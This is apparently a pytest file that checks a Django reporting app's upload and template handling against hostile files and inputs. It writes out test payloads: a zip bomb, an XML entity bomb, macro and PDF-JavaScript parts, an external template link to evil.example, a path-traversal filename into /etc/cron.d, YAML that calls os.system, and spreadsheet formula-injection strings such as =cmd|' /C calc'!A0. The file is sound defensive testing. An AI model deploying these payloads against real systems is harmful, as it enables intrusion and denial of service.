"""D: uploaded files are hostile. One corpus at every door; what each check does alone stands in
tests/units/test_uploads.py and tests/reports/spreadsheets/."""

import io
import os
import time
import zipfile
from collections.abc import Callable
from html import unescape
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pikepdf
import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from docx import Document
from PIL import Image

from campaigns.models import Campaign
from campaigns.planfile.schema import Plan
from campaigns.planfile.writing import FORMATS
from reports.actions.reports import save_figures
from reports.models import Declaration, Evidence, PeriodicReport
from reports.rules import Figure
from tests.factories.campaigns import make_campaign, small_plan, small_plan_data
from tests.factories.reports import FIGURES, NOW, TODAY, make_draft, make_period
from tests.factories.units import make_authority, make_member, make_person, make_unit
from units.enums import Role
from units.tenancy import authority_scope
from units.uploads import MAX_UNPACKED

pytestmark = pytest.mark.django_db
MEGABYTE = 1024 * 1024
ZERO_MEGABYTES = b"\0" * MEGABYTE


@pytest.fixture
def place() -> SimpleNamespace:
    authority = make_authority("go-vap", is_demo=True, clock_on=TODAY)
    with authority_scope(authority):
        unit = make_unit("Phường 1", "phuong-xa")
        person = make_person(unit)
        report = make_draft(make_period(make_campaign()), unit)
        staff, reporter = Client(), Client()
        staff.force_login(make_member(Role.STAFF).user)
        reporter.force_login(make_member(Role.REPORTER, unit).user)
    return SimpleNamespace(authority=authority, unit=unit, person=person, report=report, staff=staff, reporter=reporter)


def saved(make: Callable[[io.BytesIO], object]) -> bytes:
    stream = io.BytesIO()
    make(stream)
    return stream.getvalue()


def packed(parts: dict[str, bytes], base: bytes = b"", compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO(base)
    with zipfile.ZipFile(stream, "a", compression) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return stream.getvalue()


def replaced(base: bytes, part: str, old: bytes, new: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(base)) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    assert old in parts[part]
    return packed(parts | {part: parts[part].replace(old, new)})


def pdf(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        return saved(document.save)


def named(key: str, value: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root[key] = value

    return change


XLSX = saved(openpyxl.Workbook().save)
DOCX = saved(Document().save)
JPEG = saved(lambda stream: Image.new("L", (4, 4)).save(stream, "JPEG"))
EXE = b"MZ\x90\x00" + b"\0" * 300
TEMPLATE_FROM_ELSEWHERE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
JAVASCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def bomb() -> bytes:
    stream = io.BytesIO(XLSX)
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as package, package.open("xl/media/a.bin", "w") as part:
        for _ in range(MAX_UNPACKED // MEGABYTE + 1):
            part.write(ZERO_MEGABYTES)
    return stream.getvalue()


def far_cell() -> bytes:
    """One cell at the far corner: in normal mode a reader would walk through seventeen thousand million cells."""
    return replaced(XLSX, "xl/worksheets/sheet1.xml", b"<sheetData", b'<sheetData><row r="1048576"><c r="XFD1048576">'
                    b"<v>1</v></c></row></sheetData><extra")  # fmt: skip


def entity_bomb() -> bytes:
    """Ten entities of ten, nine deep: a thousand million letters from a kilobyte."""
    inner = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 10))
    return packed(
        {
            **{name: content for name, content in _parts(XLSX).items() if name != "xl/sharedStrings.xml"},
            "xl/sharedStrings.xml": b'<!DOCTYPE sst [<!ENTITY e0 "lol">' + inner + b"]><sst><si><t>&e9;</t></si></sst>",
        }
    )


def _parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name) for name in package.namelist()}


REFUSED_EVERYWHERE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "executable": ("a.exe", lambda: EXE),
    "executable named pdf": ("a.pdf", lambda: EXE),
    "executable named xlsx": ("a.xlsx", lambda: EXE),
    "executable before a sound package": ("a.xlsx", lambda: EXE + XLSX),
    "two endings": ("a.pdf.exe", lambda: pdf(lambda document: None)),
    "page": ("a.html", lambda: b"<script>alert(1)</script>"),
    "page named png": ("a.png", lambda: b"<script>alert(1)</script>"),
    "drawing with script": ("a.svg", lambda: b"<svg onload='alert(1)'/>"),
    "bomb": ("a.xlsx", bomb),
    "three thousand parts": ("a.xlsx", lambda: packed({f"x/{n}": b"" for n in range(3000)}, XLSX)),
    "macro": ("a.xlsx", lambda: packed({"xl/vbaProject.bin": b"x"}, XLSX)),
    "macro under another name": (
        "a.docx",
        lambda: replaced(DOCX, "[Content_Types].xml", b"</Types>",
                         b'<Override PartName="/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
    ),
    "macro workbook renamed": (
        "a.xlsx",
        lambda: replaced(XLSX, "[Content_Types].xml", b"sheet.main+xml", b"sheet.macroEnabled.main+xml"),
    ),
    "link to another workbook": ("a.xlsx", lambda: packed({"xl/externalLinks/externalLink1.xml": b"x"}, XLSX)),
    "template from elsewhere": (
        "a.docx",
        lambda: packed({"word/_rels/settings.xml.rels": TEMPLATE_FROM_ELSEWHERE}, DOCX),
    ),
    "password": ("a.xlsx", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "old workbook": ("a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "cut package": ("a.xlsx", lambda: XLSX[: len(XLSX) // 2]),
    "cut picture": ("a.jpg", lambda: JPEG[:-40]),
    "picture of 64 million points": ("a.png", lambda: saved(lambda s: Image.new("1", (8000, 8000)).save(s, "PNG"))),
    "pdf that runs": ("a.pdf", lambda: pdf(named("/OpenAction", JAVASCRIPT))),
    "pdf with forms of its own language": ("a.pdf", lambda: pdf(named("/AcroForm", pikepdf.Dictionary(XFA="x")))),
    "pdf whose names are a number": ("a.pdf", lambda: pdf(named("/Names", 5))),
    "pdf behind other bytes": ("a.pdf", lambda: b"<script>" + pdf(lambda document: None)),
    "empty": ("a.pdf", lambda: b""),
    "no ending": ("a", lambda: EXE),
    "path and control letters": ("../../etc/cron.d/\u202ea\x00.sh", lambda: EXE),
}  # fmt: skip
REFUSED_BY_THE_TEMPLATE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "far cell": ("a.xlsx", far_cell),
    "entities": ("a.xlsx", entity_bomb),
    "another workbook": ("a.xlsx", lambda: XLSX),
    "pdf": ("a.pdf", lambda: pdf(lambda document: None)),
}


def files_on_disk() -> int:
    return sum(len(names) for _, _, names in os.walk(settings.MEDIA_ROOT))


def doors(place: SimpleNamespace) -> dict[str, tuple[Client, str, str, dict[str, str]]]:
    at = f"/go-vap/bao-cao/{place.report.pk}"
    declare = f"/go-vap/bao-cao/ke-khai/thi-dua-nho/{place.unit.pk}"
    person = f"{declare}/statement/sang-kien/ca-nhan/{place.person.pk}/"
    return {
        "evidence": (place.reporter, f"{at}/minh-chung/mo-hinh/", "uploads", {}),
        "paper of the unit": (place.reporter, f"{declare}/paper/ke-hoach/", "uploads", {"answer": "1"}),
        "statement of a person": (place.reporter, person, "uploads", {"answer": "1"}),
        "spreadsheet": (place.reporter, f"{at}/tai-len/", "file", {}),
        "plan": (place.staff, "/go-vap/phong-trao/nhap/", "file", {"do": "import"}),
    }


def sentences(answer) -> list[str]:
    """What the page says is wrong with the file."""
    said = [str(error) for errors in answer.context["form"].errors.values() for error in errors]
    said += answer.context.get("faults") or []
    return said + [mistake.reason for mistake, _ in answer.context.get("mistakes") or []]


@pytest.mark.parametrize("door", ["evidence", "paper of the unit", "statement of a person", "spreadsheet", "plan"])
def test_d1_d2_d3_every_hostile_file_meets_a_sentence_at_every_door_and_leaves_nothing(place, door):
    client, path, field, form = doors(place)[door]
    corpus = REFUSED_EVERYWHERE | (REFUSED_BY_THE_TEMPLATE if door == "spreadsheet" else {})
    before, wrong = files_on_disk(), []

    for what, (name, make) in corpus.items():
        started = time.monotonic()
        answer = client.post(path, form | {field: SimpleUploadedFile(name, make())})
        took = time.monotonic() - started
        said = sentences(answer)
        if answer.status_code != 200 or not said or not all(one in unescape(answer.content.decode()) for one in said):
            wrong.append((what, answer.status_code, said))
        if took > 5:
            wrong.append((what, took))

    assert wrong == []
    assert files_on_disk() == before
    with authority_scope(place.authority):
        assert Evidence.objects.count() == 0
        assert Campaign.objects.count() == 1
        # a declaration stands with what it says; only its file was refused
        assert {declaration.evidence.count() for declaration in Declaration.objects.all()} <= {0}
        assert PeriodicReport.objects.get().edition == place.report.edition


HOSTILE_PLANS = {
    "aliases": b"a: &a [x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b]\n",
    "python": b"code: !!python/object/apply:os.system ['true']\n",
    "deep": b"[" * 5000 + b"]" * 5000,
    "two documents": b"code: a\n---\ncode: b\n",
    "utf-16": "code: a\n".encode("utf-16"),
    "zero": b"code: a\0b\n",
    "surrogate": b'{"code": "\\ud800"}',
    "key that is no letter": b'{"\\u0000\\ud800": 1}',
    "merge": b"a: {<<: {b: 1}}\n",
    "huge number": b"code: x\nissued_on: " + b"9" * 4000 + b"\n",
    "huge exponent": b'{"code": "x", "targets": [{"value": 1e999}]}',
    "year nought": b"code: x\nissued_on: 0000-01-01\nperiod: {start: 0001-01-01, end: 9999-12-31}\n",
    "too long": b"#" * 1_000_001,
    "many items": b"targets: [" + b"1," * 3000 + b"]",
    "only a tab": b"\t",
}


@pytest.mark.parametrize("content", HOSTILE_PLANS.values(), ids=HOSTILE_PLANS.keys())
def test_d_hostile_plan_is_answered_by_place_and_reason_and_imports_nothing(place, content):
    started = time.monotonic()

    answers = [
        place.staff.post("/go-vap/phong-trao/nhap/", {"do": "import", "file": SimpleUploadedFile("a.yaml", content)}),
        place.staff.post("/go-vap/phong-trao/nhap/", {"do": "import", "source": content.decode("utf-8", "replace")}),
    ]

    assert [answer.status_code for answer in answers] == [200, 200]
    assert time.monotonic() - started < 5
    with authority_scope(place.authority):
        assert Campaign.objects.count() == 1


def test_d3_picture_goes_on_as_pixels_only(place):
    exif = Image.Exif()
    exif[0x8825] = {1: "N", 2: (10.0, 49.0, 0.0)}
    content = saved(lambda stream: Image.new("RGB", (8, 8)).save(stream, "JPEG", exif=exif, comment=b"MARK"))
    client, path, field, form = doors(place)["evidence"]

    client.post(path, form | {field: SimpleUploadedFile("ảnh.jpg", content + b"<script>MARK</script>")})

    with authority_scope(place.authority):
        stored = Path(settings.MEDIA_ROOT, Evidence.objects.get().file.name).read_bytes()
    assert b"MARK" not in stored
    with Image.open(io.BytesIO(stored)) as image:
        assert (image.size, len(image.getexif())) == ((8, 8), 0)


# --- D9 ---------------------------------------------------------------------------------------------------------------

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "+1+1", "-1+1", "@SUM(1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '";=1+1', "'=1+1", "=\u200b1", "{=1+1}", "%0A=1+1", "|calc",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_d9_no_cell_of_a_template_is_a_formula(place, payload):
    """Whatever a unit types or a plan says: reopened by a spreadsheet program, it is text."""
    with authority_scope(place.authority):
        place.unit.name = payload.strip() or "x"
        place.unit.save()
        figures = {"mo-hinh": Figure(value=FIGURES["mo-hinh"].value, note=payload)}
        save_figures(report=place.report, figures=figures, edition=place.report.edition, by=None, now=NOW)

    content = place.reporter.get(f"/go-vap/bao-cao/{place.report.pk}/tep-mau/").content

    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert any(str(cell.value).strip() == payload.strip() for cell in cells)
    assert all(b"<f>" not in part and b"<f " not in part for part in _parts(content).values())


def test_d9_plan_whose_words_look_like_formulas_gives_a_template_without_one():
    data = small_plan_data() | {"title": "=Phong trào", "code": "cong-thuc"}
    for indicator in data["indicators"]:
        indicator["name"] = f"={indicator['name']}"
    for target in data["targets"]:
        target["text"], target["clause"] = f"@{target['text']}", f"+{target['clause']}"
    plan = Plan.model_validate(data)
    authority = make_authority("go-vap", is_demo=True, clock_on=TODAY)
    with authority_scope(authority):
        unit = make_unit("=Phường", "phuong-xa")
        report = make_draft(make_period(make_campaign(plan)), unit)
        client = Client()
        client.force_login(make_member(Role.REPORTER, unit).user)

    content = client.get(f"/go-vap/bao-cao/{report.pk}/tep-mau/").content

    assert all(b"<f>" not in part and b"<f " not in part for part in _parts(content).values())


def test_d9_plan_file_that_goes_out_reads_back_as_the_same_words():
    plan = small_plan(title='=1+1 "a": [b] # c', theme="- @x", code="dau-cau")

    for written in FORMATS.values():
        assert "=1+1" in written.write(plan)
